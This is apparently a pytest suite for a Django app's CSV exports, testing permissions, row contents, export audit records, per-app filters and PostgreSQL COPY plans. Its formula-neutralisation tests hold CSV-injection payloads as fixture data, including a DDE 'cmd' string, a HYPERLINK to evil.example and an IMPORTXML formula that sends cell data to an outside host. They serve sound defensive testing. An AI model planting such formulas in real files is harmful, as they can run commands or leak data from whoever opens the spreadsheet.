"""CSV exports from the reports page and the admin: permissions, contents, escaping, records."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, date, datetime

import pytest
from django.conf import settings
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from lookups.models import App, CustomerAccount, Export, Lookup, TokenChange
from lookups.reporting import exports
from lookups.reporting.figures import ReportFilters
from lookups.services import app_scope
from lookups.simulators.demo_data import ORDER_OFFER_CODE
from tests.fixtures.rows import make_lookup, make_token_change, settle_token_change

pytestmark = pytest.mark.django_db

WEEK = {"start": "2026-11-16", "end": "2026-11-22"}
TOKEN = uuid.UUID("6f1c2a9e-3b7d-4e8f-9a0b-1c2d3e4f5a6b")
OLD_TOKEN = uuid.UUID("0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d")
# Rows naming no app were the settings' app's, registered under its bundle ID.
SETTINGS_APP = settings.APPSTORE_BUNDLE_ID


def export_url(table: str) -> str:
    return reverse("lookups:export", args=[table])


def at(day: int, hour: int = 12, minute: int = 0, second: int = 0, micro: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, second, micro, tzinfo=UTC)


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8-sig")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def account(make_account) -> CustomerAccount:
    return make_account(
        external_id="cust-42",
        email="jo@example.com",
        display_name="Jo Example",
        app_account_token=TOKEN,
    )


# --- What an export holds ----------------------------------------------------------------


@pytest.mark.parametrize("who", ["manager_client", "superuser_client"])
@pytest.mark.parametrize("table", ["lookups", "token-changes", "customer-accounts"])
def test_managers_and_superusers_export(request, who, table):
    response = request.getfixturevalue(who).get(export_url(table), WEEK)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body(response).startswith("id,created_at,")


def test_an_export_refuses_post(manager_client):
    assert manager_client.post(export_url("lookups"), WEEK).status_code == 405


def test_an_unknown_table_is_not_found(manager_client):
    assert manager_client.get(export_url("users"), WEEK).status_code == 404
    assert not Export.objects.exists()


def test_a_range_over_a_year_is_refused(manager_client):
    response = manager_client.get(
        export_url("lookups"), {"start": "2025-01-01", "end": "2026-11-22"}
    )
    assert response.status_code == 400
    assert "at most 366 days" in response.text
    assert not Export.objects.exists()


def test_the_reports_page_links_to_each_export_with_its_filters(manager_client, agent_user):
    page = manager_client.get(reverse("lookups:reports"), {**WEEK, "agent": agent_user.pk}).text
    dates = "start=2026-11-16&amp;end=2026-11-22"
    assert f'href="{export_url("lookups")}?{dates}&amp;agent={agent_user.pk}"' in page
    assert f'href="{export_url("token-changes")}?{dates}&amp;agent={agent_user.pk}"' in page
    assert f'href="{export_url("customer-accounts")}?{dates}"' in page


def test_the_reports_page_offers_no_export_without_the_permission(make_user, client):
    from django.contrib.auth.models import Permission

    viewer = make_user("viewer")
    viewer.user_permissions.add(Permission.objects.get(codename="view_reports"))
    client.force_login(viewer)
    page = client.get(reverse("lookups:reports"), WEEK).text
    assert "Download as CSV" not in page
    assert export_url("lookups") not in page


# --- What an export holds --------------------------------------------------------------------


def test_the_token_change_export_is_exactly_the_rows_in_range(manager_client, agent_user, account):
    make_token_change(agent_user, account, created_at=at(15, 23, 59, 59))  # the day before
    linked = make_token_change(
        agent_user,
        account,
        request_id=uuid.UUID("11111111-2222-4333-8444-555555555555"),
        created_at=at(16, 0, 0, 0),
        original_transaction_id="2000000000000001",
        product_id="com.example.pro.yearly",
        order_id=ORDER_OFFER_CODE,
        ticket_reference="ZD-1",
    )
    settle_token_change(linked, TokenChange.Outcome.SUCCEEDED, at=at(16, 0, 0, 2, 999999))
    refused = make_token_change(
        agent_user,
        account,
        request_id=uuid.UUID("66666666-7777-4888-9999-000000000000"),
        created_at=at(22, 23, 59, 59, 500000),
        original_transaction_id="2000000000000002",
        product_id="com.example.pro.monthly",
        order_id="",
        token_before=OLD_TOKEN,
        ticket_reference='=HYPERLINK("http://evil.example","help")',
        lookup=make_lookup(agent_user, created_at=at(22)),
    )
    settle_token_change(
        refused,
        TokenChange.Outcome.FAILED,
        at=at(23, 0, 0, 1),
        error_code=4040010,
        error_message='Apple said "no",\nthen stopped. Prix: 9,99 €',
    )
    pending = make_token_change(
        agent_user,
        account,
        request_id=uuid.UUID("99999999-8888-4777-a666-555555555555"),
        created_at=at(22, 6),
        original_transaction_id="2000000000000003",
        ticket_reference="-",
    )
    make_token_change(agent_user, account, created_at=at(23, 0, 0, 0))  # the day after

    response = manager_client.get(export_url("token-changes"), WEEK)

    assert response["Content-Disposition"] == (
        'attachment; filename="token-changes_2026-11-16_2026-11-22.csv"'
    )
    assert body(response) == (
        "id,created_at,settled_at,agent,outcome,original_transaction_id,product_id,environment,"
        "order_id,account_external_id,account_email,token_before,token_after,ticket_reference,"
        "lookup_id,error_code,error_message,request_id,chain_sequence,chain_hash,app\r\n"
        f"{linked.pk},2026-11-16T00:00:00Z,2026-11-16T00:00:02Z,agent,succeeded,"
        f"2000000000000001,com.example.pro.yearly,Production,{ORDER_OFFER_CODE},cust-42,jo@example.com,,"
        f"{TOKEN},ZD-1,,,,11111111-2222-4333-8444-555555555555,1,{linked.chain_hash},"
        f"{SETTINGS_APP}\r\n"
        f"{pending.pk},2026-11-22T06:00:00Z,,agent,pending,"
        f"2000000000000003,com.example.premium.yearly,Production,{ORDER_OFFER_CODE},cust-42,"
        f"jo@example.com,,{TOKEN},'-,,,,99999999-8888-4777-a666-555555555555,,,{SETTINGS_APP}\r\n"
        f"{refused.pk},2026-11-22T23:59:59Z,2026-11-23T00:00:01Z,agent,failed,"
        "2000000000000002,com.example.pro.monthly,Production,,cust-42,jo@example.com,"
        f"{OLD_TOKEN},{TOKEN},"
        '"\'=HYPERLINK(""http://evil.example"",""help"")",'
        f"{refused.lookup_id},4040010,"
        '"Apple said ""no"",\nthen stopped. Prix: 9,99 €",'
        f"66666666-7777-4888-9999-000000000000,2,{refused.chain_hash},{SETTINGS_APP}\r\n"
    )
    assert len(linked.chain_hash) == 64


def test_the_lookup_export_follows_the_agent_filter(manager_client, agent_user, make_user):
    other = make_user("other-agent", "Support agents")
    mine = make_lookup(agent_user, created_at=at(17), order_id="AAAAAAAAAA")
    make_lookup(other, created_at=at(17), order_id="BBBBBBBBBB")
    theirs_later = make_lookup(
        other,
        created_at=at(18, 9, 15, 30),
        kind=Lookup.Kind.HISTORY,
        order_id="",
        transaction_id="2000000000000007",
        history_version=2,
        outcome=Lookup.Outcome.FAILED,
        error_code=4290000,
        error_message="Too many requests",
        duration_ms=845,
    )

    response = manager_client.get(export_url("lookups"), {**WEEK, "agent": other.pk})
    rows = parsed(body(response))

    assert rows[0] == [
        "id",
        "created_at",
        "agent",
        "kind",
        "order_id",
        "transaction_id",
        "history_version",
        "environment",
        "outcome",
        "error_code",
        "error_message",
        "duration_ms",
        "app",
    ]
    assert [row[4] for row in rows[1:]] == ["BBBBBBBBBB", ""]
    assert rows[2] == [
        str(theirs_later.pk),
        "2026-11-18T09:15:30Z",
        "other-agent",
        "history",
        "",
        "2000000000000007",
        "2",
        "Production",
        "failed",
        "4290000",
        "Too many requests",
        "845",
        SETTINGS_APP,
    ]
    assert str(mine.pk) not in [row[0] for row in rows[1:]]


def test_the_account_export_filters_by_creation_day_only(manager_client, make_account, agent_user):
    before, inside, after = (make_account() for _ in range(3))
    for created, customer in ((at(15, 23, 59, 59), before), (at(20), inside), (at(23), after)):
        CustomerAccount.objects.filter(pk=customer.pk).update(created_at=created, updated_at=at(23))

    response = manager_client.get(export_url("customer-accounts"), {**WEEK, "agent": agent_user.pk})
    rows = parsed(body(response))

    assert response["Content-Disposition"] == (
        'attachment; filename="customer-accounts_2026-11-16_2026-11-22.csv"'
    )
    assert rows == [
        [
            "id",
            "created_at",
            "updated_at",
            "external_id",
            "email",
            "display_name",
            "app_account_token",
            "adapty_customer_user_id",
            "notes",
        ],
        [
            str(inside.pk),
            "2026-11-20T12:00:00Z",
            "2026-11-23T12:00:00Z",
            inside.external_id,
            inside.email,
            inside.display_name,
            str(inside.app_account_token),
            "",
            "",
        ],
    ]


def test_an_empty_range_exports_the_header_only(manager_client):
    response = manager_client.get(export_url("token-changes"), WEEK)
    assert parsed(body(response)) == [exports.TOKEN_CHANGES.headers]
    assert Export.objects.get().row_count == 0


# --- Spreadsheet formulas ---------------------------------------------------------------------

DANGEROUS = ["=1+2", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd", "=cmd|' /C calc'!A0"]
HARMLESS = ["", "plain", "a=b", "1-2", " =spaced", "'quoted", "é=1"]


def test_text_a_spreadsheet_could_run_is_neutralised_and_survives(
    manager_client, make_user, make_account
):
    agent = make_user("-dash-agent", "Support agents")
    for n, message in enumerate(DANGEROUS + HARMLESS):
        make_lookup(agent, created_at=at(17, 0, n), error_message=message, error_code=-n)

    rows = parsed(body(manager_client.get(export_url("lookups"), WEEK)))[1:]

    messages = [row[10] for row in rows]
    assert messages == ["'" + text for text in DANGEROUS] + HARMLESS
    assert {row[2] for row in rows} == {"'-dash-agent"}
    # Numbers stay numbers, negative ones included.
    assert [row[9] for row in rows] == [str(-n) for n in range(len(rows))]


def test_customer_text_is_neutralised_in_the_account_export(manager_client, make_account):
    make_account(display_name='=IMPORTXML(CONCAT("http://x/?",A1),"//a")', email="@x.example")
    make_account(display_name="+SUM(1)", external_id="-7")

    rows = parsed(body(manager_client.get(export_url("customer-accounts"))))[1:]

    assert [(row[3][:2], row[4][:2], row[5][:2]) for row in rows] == [
        ("cu", "'@", "'="),
        ("'-", "cu", "'+"),
    ]


# --- The record of each export -----------------------------------------------------------------


def test_each_export_is_recorded_and_completed_when_the_stream_ends(
    manager_client, manager_user, agent_user
):
    for day in (17, 18):
        make_lookup(agent_user, created_at=at(day))

    response = manager_client.get(export_url("lookups"), {**WEEK, "agent": agent_user.pk})

    record = Export.objects.get()
    assert (record.user, record.table, record.row_count, record.finished_at) == (
        manager_user,
        Export.Table.LOOKUPS,
        None,
        None,
    )
    assert record.filters == {
        "start": "2026-11-16",
        "end": "2026-11-22",
        "agent_id": agent_user.pk,
        "agent": "agent",
    }

    body(response)
    record.refresh_from_db()
    assert record.row_count == 2
    assert record.finished_at is not None
    assert record.finished_at >= record.created_at


def test_an_abandoned_download_records_what_went_out(manager_client, agent_user, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
    for minute in range(5):
        make_lookup(agent_user, created_at=at(17, 9, minute))

    response = manager_client.get(export_url("lookups"), WEEK)
    chunks = iter(response.streaming_content)
    next(chunks)  # the header
    next(chunks)  # two rows
    # The server closes the response when the client goes away; the end of the request would
    # close the database connection too, which in a test holds the test's transaction.
    monkeypatch.setattr(connection, "close_if_unusable_or_obsolete", lambda: None)
    response.close()

    record = Export.objects.get()
    assert record.row_count == 2
    assert record.finished_at is None


def test_accounts_exports_record_no_agent(manager_client, agent_user):
    body(manager_client.get(export_url("customer-accounts"), {**WEEK, "agent": agent_user.pk}))
    assert Export.objects.get().filters == {"start": "2026-11-16", "end": "2026-11-22"}


# --- The admin action ------------------------------------------------------------------------

ADMIN_MODELS = [
    ("lookup", "lookups"),
    ("tokenchange", "token-changes"),
    ("customeraccount", "customer-accounts"),
]


def changelist(model: str) -> str:
    return reverse(f"admin:lookups_{model}_changelist")


@pytest.fixture
def rows_of_each(agent_user, account) -> dict[str, list[int]]:
    lookups = [make_lookup(agent_user, created_at=at(17, hour)) for hour in (8, 9, 10)]
    changes = [
        make_token_change(agent_user, account, created_at=at(17, hour)) for hour in (8, 9, 10)
    ]
    accounts = [
        account,
        *(
            CustomerAccount.objects.create(
                external_id=f"x{n}", email=f"x{n}@example.com", display_name=f"X {n}"
            )
            for n in range(2)
        ),
    ]
    return {
        "lookup": [row.pk for row in lookups],
        "tokenchange": [row.pk for row in changes],
        "customeraccount": [row.pk for row in accounts],
    }


@pytest.mark.parametrize(("model", "slug"), ADMIN_MODELS)
def test_the_admin_action_exports_the_selected_rows(
    manager_client, manager_user, rows_of_each, model, slug
):
    chosen = rows_of_each[model][:2]
    response = manager_client.post(
        changelist(model),
        {"action": "export_selected_as_csv", ACTION_CHECKBOX_NAME: [str(pk) for pk in chosen]},
    )

    assert response.status_code == 200
    today = timezone.now().date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{slug}_selected_{today}.csv"'
    rows = parsed(body(response))
    assert rows[0] == exports.TABLES[slug].headers
    assert sorted(int(row[0]) for row in rows[1:]) == sorted(chosen)
    record = Export.objects.get()
    assert record.user == manager_user
    assert record.table == exports.TABLES[slug].table
    assert record.filters == {"admin": "selected", "ids": chosen}
    assert record.row_count == 2


def test_the_admin_action_can_export_everything_matching_the_changelist_filters(
    superuser_client, agent_user, account
):
    failed = settle_token_change(
        make_token_change(agent_user, account),
        TokenChange.Outcome.FAILED,
        at=timezone.now(),
        error_code=4000006,
    )
    make_token_change(agent_user, account)  # pending, filtered out

    response = superuser_client.post(
        changelist("tokenchange") + "?outcome__exact=failed",
        {
            "action": "export_selected_as_csv",
            "select_across": "1",
            ACTION_CHECKBOX_NAME: [failed.pk],
        },
    )

    rows = parsed(body(response))
    assert [row[0] for row in rows[1:]] == [str(failed.pk)]
    assert Export.objects.get().filters == {
        "admin": "all matching",
        "changelist_query": "outcome__exact=failed",
    }


@pytest.mark.parametrize(("model", "slug"), ADMIN_MODELS)
def test_auditors_are_not_offered_the_admin_action(auditor_client, rows_of_each, model, slug):
    assert "export_selected_as_csv" not in auditor_client.get(changelist(model)).text

    response = auditor_client.post(
        changelist(model),
        {"action": "export_selected_as_csv", ACTION_CHECKBOX_NAME: rows_of_each[model]},
    )

    assert not response.get("Content-Type", "").startswith("text/csv")
    assert not Export.objects.exists()


def test_managers_are_offered_the_admin_action(manager_client, rows_of_each):
    page = manager_client.get(changelist("tokenchange")).text
    assert '<option value="export_selected_as_csv">Export selected as CSV</option>' in page


# --- Exports in the admin --------------------------------------------------------------------


def test_auditors_read_the_exports_in_the_admin(auditor_client, manager_user):
    record = Export.objects.create(user=manager_user, table=Export.Table.LOOKUPS, row_count=3)

    listed = auditor_client.get(reverse("admin:lookups_export_changelist")).text
    assert reverse("admin:lookups_export_change", args=[record.pk]) in listed
    page = auditor_client.get(reverse("admin:lookups_export_change", args=[record.pk])).text
    assert "manager" in page and "Lookups" in page and ">3<" in page
    assert 'name="_save"' not in page


def test_nobody_adds_or_deletes_exports_in_the_admin(superuser_client, manager_user):
    record = Export.objects.create(user=manager_user, table=Export.Table.LOOKUPS)
    assert superuser_client.get(reverse("admin:lookups_export_add")).status_code == 403
    response = superuser_client.post(reverse("admin:lookups_export_delete", args=[record.pk]))
    assert response.status_code == 403
    assert Export.objects.filter(pk=record.pk).exists()


def test_the_lines_are_what_pythons_csv_module_writes(manager_client, agent_user, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 3)  # several chunks, some with quotes, some not
    messages = [
        "plain",
        'say "hi"',
        "a,b",
        "line\nbreak",
        "carriage\rreturn",
        "both\r\n",
        "",
        "naïve ☃",
        "=1,2",
        '"',
        "ok",
        "fine",
    ]
    made = [
        make_lookup(agent_user, created_at=at(17, 0, n), error_message=text)
        for n, text in enumerate(messages)
    ]

    text = body(manager_client.get(export_url("lookups"), WEEK))

    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow(exports.LOOKUPS.headers)
    for lookup, message in zip(made, messages, strict=True):
        safe = "'" + message if message and message[0] in "=+-@\t\r" else message
        writer.writerow(
            [
                lookup.pk,
                f"2026-11-17T00:{lookup.created_at.minute:02d}:00Z",
                "agent",
                "order",
                ORDER_OFFER_CODE,
                "",
                "",
                "Production",
                "found",
                "",
                safe,
                120,
                SETTINGS_APP,
            ]
        )
    assert text == expected.getvalue()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_on_postgresql_the_rows_are_written_by_copy(manager_client, agent_user):
    make_lookup(agent_user, created_at=at(17), error_message='=1+1, said "x"')

    with CaptureQueriesContext(connection) as queries:
        text = body(manager_client.get(export_url("lookups"), WEEK))

    assert any(query["sql"].startswith("COPY (") for query in queries.captured_queries)
    # Neutralised, then quoted as Python's csv module quotes it.
    assert '"\'=1+1, said ""x"""' in text


def test_the_account_export_holds_each_customers_notes_oldest_first(
    manager_client, make_account, agent_user
):
    from lookups.models import CustomerNote

    noted = make_account(display_name="Noted")
    make_account(display_name="Silent")
    CustomerNote.objects.create(
        account=noted, author=agent_user, text="First call", created_at=at(20)
    )
    CustomerNote.objects.create(
        account=noted, author=agent_user, text="=Second, risky", created_at=at(21)
    )

    rows = parsed(body(manager_client.get(export_url("customer-accounts"))))

    assert rows[0][-1] == "notes"
    by_name = {row[5]: row[-1] for row in rows[1:]}
    username = agent_user.get_username()
    assert by_name == {
        "Noted": f"{username}: First call\n{username}: =Second, risky",
        "Silent": "",
    }


def test_the_lookup_export_names_each_lookups_app(manager_client, agent_user):
    coach = App.objects.create(name="Coach", bundle_id="com.example.supportdesk.coach")
    make_lookup(agent_user, created_at=at(18), app=coach, environment="Sandbox")

    rows = parsed(body(manager_client.get(export_url("lookups"), WEEK)))

    app, environment = rows[0].index("app"), rows[0].index("environment")
    assert [(row[app], row[environment]) for row in rows[1:]] == [("Coach", "Sandbox")]


# --- Exports per app ---------------------------------------------------------------------------


@pytest.fixture
def two_apps(agent_user, account) -> dict[str, App]:
    """The settings' app and Coach, each with one row of every exported table in the week."""
    from lookups.services.apps import desk_apps
    from tests.fixtures.rows import make_extension, make_refund_request

    [own] = desk_apps()
    coach = App.objects.create(name="Coach", bundle_id="com.example.supportdesk.coach")
    for app, environment in ((None, "Production"), (coach, "Sandbox")):
        make_lookup(agent_user, created_at=at(17), app=app, environment=environment)
        make_token_change(agent_user, account, created_at=at(17), app=app, environment=environment)
        make_extension(agent_user, created_at=at(17), app=app, environment=environment)
        make_refund_request(created_at=at(17), app=app, environment=environment)
    return {"own": own, "coach": coach}


PER_APP_TABLES = ["lookups", "token-changes", "extensions", "refund-requests"]


def _apps_and_environments(rows: list[list[str]]) -> list[tuple[str, str]]:
    app, environment = rows[0].index("app"), rows[0].index("environment")
    return sorted((row[app], row[environment]) for row in rows[1:])


@pytest.mark.parametrize("slug", PER_APP_TABLES)
def test_every_per_app_export_names_each_rows_app_and_environment(manager_client, two_apps, slug):
    rows = parsed(body(manager_client.get(export_url(slug), WEEK)))

    assert _apps_and_environments(rows) == [("Coach", "Sandbox"), (SETTINGS_APP, "Production")]


@pytest.mark.parametrize("slug", PER_APP_TABLES)
def test_the_app_and_environment_filters_narrow_every_per_app_export(
    manager_client, two_apps, slug
):
    coach, own = two_apps["coach"], two_apps["own"]

    only_coach = parsed(body(manager_client.get(export_url(slug), {**WEEK, "app": coach.pk})))
    only_own = parsed(body(manager_client.get(export_url(slug), {**WEEK, "app": own.pk})))
    sandbox = parsed(body(manager_client.get(export_url(slug), {**WEEK, "environment": "Sandbox"})))

    assert _apps_and_environments(only_coach) == [("Coach", "Sandbox")]
    # The row naming no app was the settings' app's.
    assert _apps_and_environments(only_own) == [(SETTINGS_APP, "Production")]
    assert _apps_and_environments(sandbox) == [("Coach", "Sandbox")]
    assert Export.objects.filter(filters__app="Coach").count() == 1


@pytest.mark.parametrize("slug", PER_APP_TABLES)
def test_a_manager_limited_to_one_app_exports_only_its_rows(
    manager_client, manager_user, two_apps, slug
):
    two_apps["coach"].limited_agents.add(manager_user)

    rows = parsed(body(manager_client.get(export_url(slug), WEEK)))
    refused = manager_client.get(export_url(slug), {**WEEK, "app": two_apps["own"].pk})

    assert _apps_and_environments(rows) == [("Coach", "Sandbox")]
    assert refused.status_code == 400
    assert "Choose one of the apps listed." in refused.text


def test_a_limited_managers_admin_export_holds_only_their_apps_rows(
    manager_client, manager_user, two_apps
):
    two_apps["coach"].limited_agents.add(manager_user)
    every_lookup = [str(pk) for pk in Lookup.objects.values_list("pk", flat=True)]

    response = manager_client.post(
        changelist("lookup"),
        {
            "action": "export_selected_as_csv",
            "select_across": "1",
            ACTION_CHECKBOX_NAME: every_lookup,
        },
    )

    assert _apps_and_environments(parsed(body(response))) == [("Coach", "Sandbox")]


def test_the_app_column_costs_no_query_per_row(manager_client, agent_user, two_apps):
    def export() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            rows = parsed(body(manager_client.get(export_url("lookups"), WEEK)))
        return len(rows), len(queries)

    few, queries_for_few = export()
    for n in range(30):
        make_lookup(agent_user, created_at=at(18, 1, n), app=two_apps["coach"] if n % 2 else None)
    many, queries_for_many = export()

    assert (few, many) == (1 + 2, 1 + 2 + 30)
    assert queries_for_many == queries_for_few


def _plan_nodes(plan: dict) -> list[str]:
    return [plan["Node Type"]] + [
        node for child in plan.get("Plans", []) for node in _plan_nodes(child)
    ]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("slug", sorted(exports.TABLES))
def test_on_postgresql_each_export_walks_an_index_instead_of_sorting_first(slug, agent_user):
    # A plan that sorts the whole range sends nothing until it is sorted (seconds at millions);
    # walking the created_at index sends the first rows at once.
    table = exports.TABLES[slug]
    rows = table.model._default_manager.filter(created_at__gte=at(16), created_at__lt=at(23))

    assert "Sort" not in _plan_nodes(_export_plan(table, rows))


def _export_plan(table: exports.ExportTable, rows) -> dict:
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(exports.FIRST_ROWS_AT_ONCE)
        cursor.execute(f"EXPLAIN (FORMAT JSON) {table.copy_query(rows)}")
        (plan,) = cursor.fetchone()[0]
    return plan["Plan"]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_on_postgresql_one_agents_token_changes_are_read_through_their_own_index(agent_user):
    rows = ReportFilters(date(2026, 11, 16), date(2026, 11, 22), agent_user).token_changes()

    plan = _export_plan(exports.TOKEN_CHANGES, rows)

    assert "tokenchange_agent_created" in json.dumps(plan)
    assert "Sort" not in _plan_nodes(plan)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_on_postgresql_the_connection_plans_as_before_after_an_export(manager_client, agent_user):
    make_lookup(agent_user, created_at=at(17))
    settings = (
        "SELECT current_setting('enable_sort'), current_setting('jit'), "
        "current_setting('DateStyle'), current_setting('max_parallel_workers_per_gather')"
    )
    with connection.cursor() as cursor:
        cursor.execute(settings)
        before = cursor.fetchone()

    text = body(manager_client.get(export_url("lookups"), WEEK))

    with connection.cursor() as cursor:
        cursor.execute(settings)
        assert cursor.fetchone() == before
    assert before[0] == "on"
    assert len(parsed(text)) == 2


def test_times_are_cut_to_the_second_not_rounded(manager_client, agent_user):
    make_lookup(agent_user, created_at=at(17, 23, 59, 59, 999_999))

    (_, row) = parsed(body(manager_client.get(export_url("lookups"), WEEK)))

    assert row[1] == "2026-11-17T23:59:59Z"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_on_postgresql_times_are_iso_whatever_the_connections_date_style(agent_user, monkeypatch):
    make_lookup(agent_user, created_at=at(17, 9, 5, 7, 250_000))
    rows = Lookup.objects.filter(created_at__gte=at(16), created_at__lt=at(23))
    # Nothing but the COPY reads the database once the style is set: psycopg itself reads times
    # in ISO only, so the query naming the settings' app would fail first.
    monkeypatch.setattr(app_scope, "settings_app", lambda: None)
    with connection.cursor() as cursor:
        cursor.execute("SET DateStyle = 'German, DMY'")
        try:
            text = b"".join(chunk for chunk, _ in exports.LOOKUPS.copied_chunks(rows)).decode()
        finally:
            cursor.execute("RESET DateStyle")

    (row,) = parsed(text)
    assert row[1] == "2026-11-17T09:05:07Z"
